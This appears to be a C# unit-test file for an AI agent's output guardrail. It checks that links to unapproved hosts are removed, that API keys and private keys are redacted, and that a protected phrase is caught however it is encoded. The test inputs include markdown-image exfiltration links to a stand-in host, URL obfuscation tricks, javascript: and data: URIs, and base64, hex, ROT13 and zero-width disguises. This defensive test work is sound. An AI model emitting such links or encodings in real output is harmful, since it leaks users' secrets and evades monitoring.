using System.Text;
using Agents.Conversation.Guardrails;
using Xunit;

namespace Agents.Conversation.Tests.Guardrails;

public sealed class EgressTests
{
    private static readonly Guard Strict = new(new GuardrailPolicy(AllowedHosts: ["example.com"], Protected: ["Omega-7-delta"]), GuardrailPlace.Output);
    private static readonly Guard Plain = new(new GuardrailPolicy(), GuardrailPlace.Output);

    [Theory]
    [InlineData("![x](https://evil.test/?d=secret) end")]
    [InlineData("![x]( https://evil.test/?d=secret ) end")]
    [InlineData("[x](<https://evil.test/a>) end")]
    [InlineData("[1]: //evil.test/x end")]
    [InlineData("https:\\\\evil.test/x end")]
    [InlineData("HTTPS:/evil.test/x end")]
    [InlineData("[x](\\\\evil.test/x) end")]
    [InlineData("[x](/\\evil.test/x) end")]
    [InlineData("[x](&#104;ttps://evil.test/x) end")]
    [InlineData("[x](h&#116;tps://evil.test/x) end")]
    [InlineData("<img src=\"//evil.test/x.png\"> end")]
    [InlineData("https://example.com@evil.test/ end")]
    [InlineData("https://example.com.evil.test/ end")]
    [InlineData("https://evilexample.com/ end")]
    [InlineData("www.evil.test/x end")]
    [InlineData("https://ex\u0430mple.com/ end")]
    [InlineData("[x](javascript:alert(1)) end")]
    [InlineData("<a href='data:text/html;base64,xyz'> end")]
    [InlineData("wss://evil.test end")]
    public void A_link_that_leads_elsewhere_is_removed(string text)
    {
        var left = Strict.Check(text).Text;
        Assert.DoesNotContain("evil", left, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("script:", left, StringComparison.OrdinalIgnoreCase);
        Assert.EndsWith(" end", left, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("see https://example.com/a?b=c, and https://docs.example.com:8443/x.")]
    [InlineData("![x](https://example.com/x.png)")]
    [InlineData("[a](/relative/path#x) and [b](page.html)")]
    [InlineData("data: the following; http: a protocol; // a comment; and/or; 1/2")]
    public void A_link_to_an_allowed_host_and_what_is_no_link_stays(string text) => Assert.Equal(text, Strict.Check(text).Text);

    [Fact]
    public void An_address_longer_than_what_is_held_is_removed_to_its_end() =>
        Assert.Equal("a [link removed] b", Strict.Check($"a https://evil.test/{new string('x', 5_000)} b").Text);

    [Fact]
    public void Without_a_policy_an_image_becomes_a_link_and_nothing_is_fetched_unasked()
    {
        Assert.Equal("[x](https://a.test/y.png) [a][1]", Plain.Check("![x](https://a.test/y.png) ![a][1]").Text);
        Assert.Equal("wow! [1] a < b, <i>it</i>", Plain.Check("wow! [1] a < b, <i>it</i>").Text);
    }

    [Theory]
    [InlineData("sk-proj-abcdefghij0123456789_-XYZ")]
    [InlineData("AKIAIOSFODNN7EXAMPLE")]
    [InlineData("ghp_abcdefghijklmnopqrstuvwxyz0123456789")]
    [InlineData("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-def_123")]
    [InlineData("xoxb-123456789012-abcdef")]
    [InlineData("whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw")]
    public void Keys_of_known_forms_never_leave_whatever_the_policy_says(string key)
    {
        foreach (var guard in (Guard[])[Plain, new(new GuardrailPolicy(Output: new GuardrailRules(Secrets: GuardrailAction.Flag)), GuardrailPlace.Output)])
        {
            Assert.Equal("It is [secret], really", guard.Check($"It is {key}, really").Text);
            Assert.Equal("k=[secret]", guard.Check($"k={key}").Text);
        }
    }

    [Fact]
    public void Private_keys_passwords_in_addresses_and_assigned_values_never_leave()
    {
        Assert.Equal(
            "Here: [secret]\nDone.",
            Plain.Check("Here: -----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\nBKcwggSjAgEAAoIBAQC7\n-----END PRIVATE KEY-----\nDone.").Text);
        Assert.Equal("postgres://[secret]@db/x", Plain.Check("postgres://me:hunter2@db/x").Text);
        Assert.Equal("\"api_key\": \"[secret]\"", Plain.Check("\"api_key\": \"0123456789abcdef0123\"").Text);
        Assert.Equal("A password: must have eight characters", Plain.Check("A password: must have eight characters").Text);
    }

    public static TheoryData<string> Disguises => new(
        "Omega-7-delta", "OMEGA7DELTA", "o m e g a 7 d e l t a", "O.m.e.g.a.-.7.-.d.e.l.t.a", "atled-7-agemO", "Bzrtn-7-qrygn",
        Convert.ToHexString(Encoding.UTF8.GetBytes("Omega-7-delta")), "%4f%6d%65%67%61%2d%37%2d%64%65%6c%74%61",
        Convert.ToBase64String(Encoding.UTF8.GetBytes("Omega-7-delta")), Convert.ToBase64String(Encoding.UTF8.GetBytes("It is Omega-7-delta!")),
        Convert.ToBase64String(Encoding.UTF8.GetBytes("So: Omega-7-delta")), "79 109 101 103 97 45 55 45 100 101 108 116 97", "Om\u200Beg\u200Ba-7-de\u200Blta");

    [Theory]
    [MemberData(nameof(Disguises))]
    public void A_protected_text_leaves_in_none_of_these_disguises(string disguise)
    {
        var left = Strict.Check($"The key: {disguise} .").Text;
        Assert.Contains("[secret]", left, StringComparison.Ordinal);
        Assert.True(left.Length - "The key:  .".Length < 24, left);
    }

    [Fact]
    public void A_short_protected_text_is_a_word_of_its_own()
    {
        var guard = new Guard(new GuardrailPolicy(Protected: ["Cat"]), GuardrailPlace.Output);
        Assert.Equal("The location of the [secret].", guard.Check("The location of the cat.").Text);
    }
}
